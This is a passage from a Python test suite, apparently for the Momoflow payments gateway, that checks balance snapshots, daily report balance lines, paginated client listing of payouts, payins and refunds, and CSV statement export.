            "provider",
            "currency",
            "expected",
            "reported",
            "reported_at",
            "source",
            "difference",
        }

    states = await pay(stack, gateway, "BAL", 2, "balance payout")
    after, entries_after = await balances_snapshot(gateway, store)
    new = entries_after - entries_before
    assert after[key]["expected"] == await _float(store, entries_after, *key)
    assert after[key]["expected"] - before.get(key, {"expected": 0})["expected"] == (
        await _float(store, new, *key)
    )
    # What these payouts took out of the float: the amount, plus the fee when the
    # provider charged it on top (no net amount reported).
    mine: set[int] = set()
    for state in states:
        record_ = await store.get(Kind.PAYOUT, "acme", state["reference"])
        assert record_ is not None
        async with store.engine.connect() as conn:
            mine |= set(
                (
                    await conn.execute(
                        select(journal_entries.c.id).where(
                            journal_entries.c.transaction_id == record_.id
                        )
                    )
                ).scalars()
            )
    assert mine and mine <= new
    taken = sum(
        s["amount"] if s["net_amount"] is not None else s["amount"] + s["fees"] for s in states
    )
    assert await _float(store, mine, *key) == -taken

    # A reported balance shows beside the expectation, with the difference.
    at = datetime.now(UTC)
    await store.report_balance("caurisflux", "XOF", 98_765_432, at=at, source="test")
    row = (await balances_snapshot(gateway, store))[0][key]
    assert row["reported"] == 98_765_432 and row["source"] == "test"
    assert datetime.fromisoformat(row["reported_at"]) == at
    assert row["difference"] == 98_765_432 - row["expected"]


async def test_the_daily_report_records_the_provider_balance_and_writes_a_balance_line(
    stack: Stack,
    client: Client,
    store: RecordStore,
    gateway: httpx.AsyncClient,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    for name, value in stack.env.items():
        if name.startswith("MOMOFLOW_"):
            monkeypatch.setenv(name, value)
    settings = Settings(_env_file=None)
    async with open_providers(settings) as providers:
        read = await providers[ProviderName.CAURISFLUX].balances()
    assert read and all(b.currency is Currency.XOF for b in read)
    read_at = datetime.now(UTC)
    summary = ReportSummary(
        provider=ProviderName.CAURISFLUX,
        day=read_at.date() - timedelta(days=1),
        mode=ReportMode.STATUS_READS,
        method="test",
        generated_at=read_at,
    )
    activities = ReconcileActivities(client, reports_dir=tmp_path, store=store)
    request = WriteReportInput(summary=summary, provider_balances=read, balances_read_at=read_at)
    env = ActivityEnvironment()
    paths = await env.run(activities.write_report, request)
    # An activity retried records nothing twice.
    assert await env.run(activities.write_report, request) == paths

    written = ReportSummary.model_validate_json(Path(paths[0]).read_text())
    [line] = written.balances
    assert line.currency == "XOF" and line.reported == read[0].balance
    assert line.reported_at == read_at and line.source == BALANCE_SOURCE == "daily report"
    assert line.difference == line.reported - line.expected
    assert written.balance_note == ""
    assert "balance XOF: expected" in report_markdown(written)
    async with store.engine.connect() as conn:
        kept = (
            await conn.execute(
                select(func.count()).where(
                    reported_balances.c.provider == "caurisflux",
                    reported_balances.c.reported_at == read_at,
                )
            )
        ).scalar_one()
    assert kept == 1
    shown = (await balances_snapshot(gateway, store))[0][("caurisflux", "XOF")]
    assert (shown["reported"], shown["source"]) == (read[0].balance, "daily report")

    # A report that did not read the balance shows the last one recorded, and says so.
    older = WriteReportInput(summary=summary.model_copy(update={"generated_at": datetime.now(UTC)}))
    paths = await env.run(activities.write_report, older)
    written = ReportSummary.model_validate_json(Path(paths[0]).read_text())
    assert written.balances[0].reported == read[0].balance
    assert "did not read" in written.balance_note
    failed = WriteReportInput(summary=summary, balance_error="provider_unavailable: 503")
    written = ReportSummary.model_validate_json(
        Path((await env.run(activities.write_report, failed))[0]).read_text()
    )
    assert "could not be read: provider_unavailable" in written.balance_note


# --------------------------------------------------------------------------- the client


async def test_the_clients_iterate_across_pages_and_write_the_statement(
    stack: Stack, ledger: Ledger, store: RecordStore, tmp_path: Path
) -> None:
    sent: list[httpx.Request] = []

    async def count(request: httpx.Request) -> None:
        sent.append(request)

    start, end = ledger.start, ledger.end
    async with httpx.AsyncClient(event_hooks={"request": [count]}) as http:
        async with MomoflowClient(stack.gateway_url, ACME_KEY, http=http) as momo:
            listed = [
                p async for p in momo.list_payouts(created_gte=start, created_lte=end, page_size=7)
            ]
            assert all(isinstance(p, PayoutState) for p in listed)
            assert [p.reference for p in listed] == ledger.newest_first()
            assert len(sent) == -(-250 // 7)
            assert {r.url.params["limit"] for r in sent} == {"7"}
            assert "starting_after" not in sent[0].url.params
            assert sent[1].url.params["starting_after"] == ledger.newest_first()[6]

            novasend = [
                p.reference
                async for p in momo.list_payouts(
                    created_gte=start,
                    created_lte=end,
                    provider=ProviderName.NOVASEND,
                    status="succeeded",
                )
            ]
            assert novasend == ledger.newest_first(
                lambda i: (
                    ledger.routes[i][0] is ProviderName.NOVASEND
                    and ledger.statuses[i] is _SUCCEEDED
                )
            )
            campaign = [p.reference async for p in momo.list_payouts(campaign=ledger.campaign)]
            assert campaign == ledger.newest_first(lambda i: ledger.campaigns[i] is not None)

            # Stopping early reads no further page.
            before = len(sent)
            pages = momo.list_payouts(created_gte=start, created_lte=end, page_size=10)
            first: list[PayoutState] = []
            async for payout in pages:
                first.append(payout)
                if len(first) == 15:
                    break
            await pages.aclose()
            assert len(first) == 15 and len(sent) - before == 2

            with pytest.raises(ValueError, match="timezone"):
                momo.list_payouts(created_gte=datetime(2026, 3, 1))
            with pytest.raises(ValueError, match="page_size"):
                momo.list_payins(page_size=101)
            with pytest.raises(ValidationFailed) as refused:
                [p async for p in momo.list_refunds(status="paid")]
            assert refused.value.problems[0].field == "status"

            statement = await _seed_statement(store)
            claim = await store.get(Kind.PAYOUT, "acme", statement.claimed.reference)
            assert claim is not None and await store.forget_unstarted(claim.id)
            payins = [
                p
                async for p in momo.list_payins(
                    created_gte=statement.start, created_lte=statement.end, page_size=1
                )
            ]
            assert all(isinstance(p, PayinState) for p in payins)
            assert [p.reference for p in payins] == [
                statement.expired.reference,
                statement.payin.reference,
            ]
            refunds = [
                r
                async for r in momo.list_refunds(
                    created_gte=statement.start, created_lte=statement.end
                )
            ]
            assert [type(r) for r in refunds] == [RefundState]

            target = tmp_path / "statement.csv"
            written = await momo.export_transactions(statement.start, statement.end, to=target)
            assert written == target.stat().st_size > 0
            assert [p.name for p in tmp_path.iterdir()] == ["statement.csv"]
            chunks = b"".join(
                [c async for c in momo.iter_transactions_export(statement.start, statement.end)]
            )
            assert chunks == target.read_bytes()
            rows = parse_csv(target.read_text())
            assert [r["kind"] for r in rows] == ["payout", "payout", "payin", "refund", "payin"]
            assert_formula_safe(rows)

            balances = await momo.balances()
            assert balances and all(isinstance(b, AccountBalance) for b in balances)
            assert {b.provider for b in balances} <= set(ProviderName)

    def sync_side() -> None:
        with SyncMomoflowClient(stack.gateway_url, ACME_KEY) as momo:
            listed = [p.reference for p in momo.list_payouts(created_gte=start, created_lte=end)]
            assert listed == ledger.newest_first()
            failed = [
                p.reference
                for p in momo.list_payouts(
                    created_gte=start,
                    created_lte=end,
                    status=TransactionStatus.FAILED,
                    country=Country.CI,
                )
            ]
            assert failed == ledger.newest_first(
                lambda i: (
                    ledger.statuses[i] is TransactionStatus.FAILED
                    and ledger.routes[i][1] is Country.CI
                )
            )
            sink = io.BytesIO()
            size = momo.export_transactions(statement.start, statement.end, to=sink)
            assert sink.getvalue() == target.read_bytes() and size == len(sink.getvalue())
            assert {(b.provider, b.currency) for b in momo.balances()} == {
                (b.provider, b.currency) for b in balances
            }

    await asyncio.to_thread(sync_side)
